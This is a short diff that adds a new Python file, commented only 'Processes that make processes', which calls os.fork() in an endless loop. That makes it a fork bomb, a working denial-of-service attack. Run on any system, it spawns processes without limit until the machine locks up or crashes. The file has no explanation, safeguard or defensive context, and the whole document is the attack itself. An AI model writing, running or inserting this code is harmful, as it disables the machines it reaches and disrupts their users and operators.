@@ -1,0 +1,6 @@
+# Processes that make processes.
+
+import os
+
+while True:
+    os.fork()
